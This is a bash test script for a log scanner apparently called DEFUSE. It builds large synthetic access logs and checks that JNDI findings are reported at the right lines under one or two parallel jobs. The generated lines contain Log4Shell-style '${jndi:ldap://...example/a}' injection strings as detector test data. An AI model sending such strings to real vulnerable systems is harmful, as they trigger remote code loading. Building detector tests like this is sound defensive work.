#!/usr/bin/env bash
# logs_parallel.sh -- one large plain file is split into chunks scanned on
# both cores: findings and line numbers must equal what the generator
# recorded, with -j1 and -j2 alike, including a payload on the first and the
# last line and lines that straddle chunk boundaries.
source "$(dirname "$0")/logs_lib.bash"
cd "$T"
python3 - <<'PY'
import random
rnd = random.Random(7)
want = []
with open("big.log", "w") as f:
    n = 0
    size = 0
    while size < 40 * 1024 * 1024:
        n += 1
        if n == 1 or rnd.random() < 0.0002:
            line = '198.51.100.%d - - [10/Dec/2021:13:00:00 +0000] "GET /${jndi:ldap://l%d.example/a} HTTP/1.1" 404 0\n' % (n % 250, n)
            want.append(n)
        else:
            line = '192.0.2.%d - - [10/Dec/2021:12:00:00 +0000] "GET /static/%d.css HTTP/1.1" 200 %d "-" "Mozilla/5.0"%s\n' % (
                n % 250, rnd.randint(0, 1 << 30), rnd.randint(1, 99999), " " * rnd.randint(0, 300))
        f.write(line)
        size += len(line)
    n += 1
    f.write('last ${jndi:ldap://l%d.example/a}' % n)  # no final newline
    want.append(n)
open("want.txt", "w").write("".join("big.log:%d\n" % w for w in want))
open("nlines", "w").write(str(n))
PY
for j in 1 2; do
    "$DEFUSE" logs -j$j --kind=jndi big.log > out$j.txt; rc=$?
    expect_rc 1 "$rc" "-j$j"
    sed 's/: jndi.*//' out$j.txt > got$j.txt
    if cmp -s got$j.txt want.txt; then ok "-j$j: every finding at its true line ($(wc -l < want.txt))"
    else fail "-j$j lines differ:"; diff got$j.txt want.txt | head >&2; fi
done
cmp -s out1.txt out2.txt && ok "identical output -j1/-j2" || fail "-j1 and -j2 output differ"
"$DEFUSE" logs -j2 --json --summary big.log | tail -1 > sum.json
python3 -c '
import json; s=json.load(open("sum.json")); n=int(open("nlines").read())
assert s["lines"] == n, (s["lines"], n)
import os; assert s["bytes"] == os.path.getsize("big.log"), s["bytes"]' \
  && ok "summary counts every line and byte across chunks" || fail "summary line/byte count"

# attack-dense: a finding on every line, more than a chunk buffers, so the
# chunks stream their records; order and numbering must still hold
python3 - <<'PY'
pad = "x" * 1900
with open("dense.log", "w") as f:
    for i in range(1, 18001):
        f.write("%s ${jndi:ldap://d%d.example/a}\n" % (pad, i))
PY
for j in 1 2; do
    "$DEFUSE" logs -j$j --kind=jndi dense.log | sed 's/: jndi.*//' > dgot$j.txt
done
seq 1 18000 | sed 's/^/dense.log:/' > dwant.txt
cmp -s dgot1.txt dwant.txt && ok "dense -j1: 18000 findings in order" || fail "dense -j1 order"
cmp -s dgot2.txt dwant.txt && ok "dense -j2: 18000 findings in order across streamed chunks" || { fail "dense -j2 order"; diff dgot2.txt dwant.txt | head -5 >&2; }
finish
